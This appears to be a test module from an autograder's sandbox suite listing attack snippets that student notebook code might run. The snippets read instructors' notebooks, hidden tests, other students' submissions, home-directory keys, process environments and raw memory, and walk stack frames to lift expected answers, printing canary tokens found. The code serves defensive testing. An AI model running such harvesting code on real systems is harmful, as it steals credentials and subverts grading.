"""Attacks on secrets: what the grading machine knows and a learner should not. All they find, they print."""

from __future__ import annotations

from functools import partial

from tests.attacks.arsenal import STOCK_NETWORK, cell_attack

_secret = partial(cell_attack, "secrets", keeps=True)

_FIND = """
import os, re, sys, glob, ctypes
TOKEN = re.compile(rb"CANARY-[0-9a-f]{16}-[a-z_]+")
seen = set()
def look(data, place):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for token in TOKEN.findall(data):
        if token not in seen:
            seen.add(token)
            print("found", token.decode(), "in", place)
def read(path):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try: look(os.read(fd, 3_000_000), path)
        finally: os.close(fd)
    except OSError: pass
"""

ATTACKS = [
    _secret(
        "reads_source",
        "reads the instructor's notebook by relative and absolute paths",
        _FIND
        + """
for start in ("..", "../..", "../../..", "@ROOT@", "/srv", os.path.dirname(os.getcwd())):
    for path in glob.glob(start + "/source/*/*.ipynb") + glob.glob(start + "/*.ipynb"): read(path)
""",
    ),
    _secret(
        "reads_lessons",
        "reads the lessons' texts, with reference solutions and hidden tests",
        _FIND
        + """
import course
for start in ("..", "../..", "@ROOT@", "/srv", os.path.join(os.path.dirname(course.__file__), "..")):
    for path in glob.glob(start + "/lessons/*/*.py") + glob.glob(start + "/lessons/*/*/*/*.py"): read(path)
""",
    ),
    _secret(
        "reads_gradebook",
        "reads the gradebook, what lies beside it, and nbgrader's configuration",
        _FIND
        + """
for start in ("..", "../..", "../../..", "@ROOT@"):
    for path in glob.glob(start + "/*.*") + glob.glob(start + "/.course/*"): read(path)
""",
    ),
    _secret(
        "reads_the_neighbours",
        "reads what others handed in, and how they were graded",
        _FIND
        + """
for start in ("..", "../..", "../../..", "@ROOT@"):
    for folder in ("submitted", "autograded", "feedback"):
        for path in glob.glob(start + "/" + folder + "/*/*/*") + glob.glob(start + "/" + folder + "/*/*/.*"): read(path)
""",
    ),
    _secret(
        "reads_home",
        "reads the grader's home: keys, histories, tokens",
        _FIND
        + """
import pwd
homes = ["@HOME@", os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall() if len(entry.pw_dir) > 1)]
for home in homes:
    for place, folders, files in os.walk(home):
        if len(seen) > 50 or place.count("/") > 6: break
        for name in files[:200]: read(os.path.join(place, name))
""",
    ),
    _secret(
        "reads_environment",
        "reads the environment, also that of other processes and that on its own stack",
        _FIND
        + """
look(repr(dict(os.environ)), "os.environ")
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]: read(path)
libc = ctypes.CDLL(None)
pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for n in range(200):
    if not pointers or not pointers[n]: break
    look(pointers[n], "environ")
""",
    ),
    _secret(
        "reads_the_stack",
        "reads the memory above its stack, where a process keeps the environment it began with",
        _FIND
        + """
libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()
def memory(start, end):
    # write() says EFAULT where a signal would end the process.
    for address in range(start & ~4095, end, 4096):
        if libc.write(writer, ctypes.c_void_p(address), 4096) == 4096: yield os.read(reader, 4096)
libc.getauxval.restype = ctypes.c_ulong
top = libc.getauxval(31)  # AT_EXECFN: near the end of the stack
for page in memory(top - 300_000, top + 8_192): look(page, "stack")
""",
    ),
    _secret(
        "searches_its_memory",
        "searches its own memory, page by page, for what the process it was forked from knew",
        _FIND
        + """
libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()
import time
start = time.time()
for anchor in (id(object()), id(os), id(torch.zeros), id({}), id(sys), id(type), id(b"x" * 100000)):
    for address in range((anchor & ~4095) - (6 << 20), anchor + (6 << 20), 4096):
        if libc.write(writer, ctypes.c_void_p(address), 4096) == 4096: look(os.read(reader, 4096), "memory")
    if time.time() - start > 1.2: break
""",
    ),
    _secret(
        "searches_objects",
        "searches all Python objects for expected tensors, hidden tests and tokens",
        _FIND
        + """
import gc
for found in gc.get_objects():
    if type(found) in (dict, list, tuple) and len(found) < 500:
        for part in (found.values() if type(found) is dict else found):
            if type(part) in (str, bytes): look(part, "an object")
def tensor_hook(grad):
    wanted = [found for found in gc.get_objects() if isinstance(found, torch.Tensor) and found.shape == grad.shape and found is not grad]
    answer.extend(wanted[-1:])
model = Model(); model.W.register_hook(tensor_hook)
""",
    ),
    _secret(
        "searches_frames",
        "walks up the stack for the truth of the check that runs, and calls it",
        """
import sys
def tensor_hook(grad):
    frame = sys._getframe(1)
    while frame is not None:
        task, case = frame.f_locals.get("task") or frame.f_locals.get("self"), frame.f_locals.get("case")
        if case is not None and hasattr(task, "truth"):
            wanted = task.truth(case).get("answer")
            answer.append(list(wanted.options[0])[0] if hasattr(wanted, "options") else wanted[0])
            return
        frame = frame.f_back
model = Model(); model.W.register_hook(tensor_hook)
""",
    ),
    _secret(
        "reads_history",
        "reads In, linecache, inspect and the shell for the text of hidden tests",
        _FIND
        + """
import linecache, inspect
looked = set()
def tensor_hook(grad):
    answer.append(grad * 0)
    frames = [sys._getframe()]
    while frames[-1].f_back is not None: frames.append(frames[-1].f_back)
    # Once for each check: for each pass of each check it would take the whole limit on a busy machine.
    asks = next((frame.f_code for frame in frames if frame.f_code.co_name == "probe"), None)
    if asks in looked: return
    looked.add(asks)
    shell = get_ipython()
    look(repr(shell.user_ns.get("In")), "In")
    for name, entry in list(linecache.cache.items()): look(repr(entry), name)
    for frame in frames:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, (str, bytes, dict)): look(repr(value)[:500_000], "frame " + name)
        try: look(inspect.getsource(frame), "source")
        except (OSError, TypeError): pass
        for const in frame.f_code.co_consts: look(repr(const), "constant")
model = Model(); model.W.register_hook(tensor_hook)
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: look(info.raw_cell, "cell"))
""",
    ),
    _secret(
        "reads_test_objects",
        "looks into the checks' classes and modules for truths and constants",
        _FIND
        + """
import gc, types
def tensor_hook(grad):
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType):
            look(repr(found.__code__.co_consts), found.__qualname__)
            look(found.__doc__ or "", found.__qualname__)
    answer.append(grad * 0)
model = Model(); model.W.register_hook(tensor_hook)
""",
    ),
    _secret(
        "reads_open_files",
        "reads from every open file descriptor but those that would never answer",
        _FIND
        + """
import stat
for number in range(256):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode): look(os.pread(number, 1_000_000, 0), f"descriptor {number}")
        if stat.S_ISDIR(os.fstat(number).st_mode): print("a folder is open:", os.listdir(number)[:5], "PW" + "NED: folder")
    except OSError: pass
""",
    ),
    _secret(
        "reads_proc",
        "reads /proc and /sys: command lines, maps, memory, mounts, roots of all processes",
        _FIND
        + """
for pattern in ("/proc/*/cmdline", "/proc/*/maps", "/proc/*/mountinfo", "/proc/*/roo[t]/tmp/*", "/proc/*/cwd/*", "/proc/*/fd/*",
                "/proc/*/root@ROOT@/*", "/sys/kernel/*", "/proc/[0-9]*"):
    for path in glob.glob(pattern)[:300]:
        print("PW" + "NED: it sees", path); read(path)
        break
# That these are there everybody knows.
for path in ("/proc/kcore", "/proc/kallsyms", "/proc/1/maps", "/proc/self/maps", "/proc/self/environ", "/proc/@VICTIM@/mem", "/sys/kernel/notes"):
    try: open(path, "rb"); print("PW" + "NED: it reads", path)
    except OSError: pass
""",
    ),
    _secret(
        "reads_the_kernel_log",
        "reads the kernel's log and boot messages",
        """
import ctypes
buffer = ctypes.create_string_buffer(4096)
got = ctypes.CDLL(None).klogctl(3, buffer, 4096)
if got > 0: print("PW" + "NED: the kernel's log")
""",
    ),
    _secret(
        "reads_other_memory",
        "reads the memory of the process that forked it, and of all others",
        _FIND
        + """
libc = ctypes.CDLL(None, use_errno=True)
class IOVec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
mine = ctypes.create_string_buffer(4096)
for pid in [os.getppid(), 0, 1, @VICTIM@, *range(2, 60)]:
    local, remote = IOVec(ctypes.addressof(mine), 4096), IOVec(id(os), 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0 and pid not in (os.getpid(), 1):
        print("PW" + "NED: memory of", pid); look(mine.raw, pid)
    read(f"/proc/{pid}/mem")
""",
        stock=STOCK_NETWORK,
    ),
    _secret(
        "searches_all_files",
        "searches every file that it can see, wherever it lies",
        _FIND
        + """
import time
start = time.time()
# Largest last: whatever is on the machine and not the system's own comes first.
tops = sorted((t for t in os.listdir("/") if t not in ("proc", "sys", "dev")), key=lambda t: t in ("usr", "lib", "root"))
for top in tops:
    for place, folders, files in os.walk("/" + top):
        folders[:] = [f for f in folders if f not in ("site-packages", "dist-packages", "node_modules", "doc", "locale", "include")]
        for name in files:
            # It shall end before its time is over, on a slow machine, too.
            if time.time() - start > 1.5: break
            if not name.endswith((".so", ".pyc", ".a", ".gz")): read(os.path.join(place, name))
        if time.time() - start > 1.5: break
""",
    ),
    _secret(
        "lists_the_course",
        "lists whatever can be seen of the course's folder, /tmp and /home",
        """
import os, sys
# The way to the interpreter may lead through any of them.
known = {".venv", "course", *sys.prefix.split("/"), *sys.base_prefix.split("/")}
for place in ("@ROOT@", "@HOME@", "/home", "/srv", "/var/tmp", "/run", "/mnt", "/dev/shm", "/tmp"):
    try: names = os.listdir(place)
    except OSError: continue
    if set(names) - known: print("PW" + "NED: it sees", place, names[:5])
""",
    ),
]
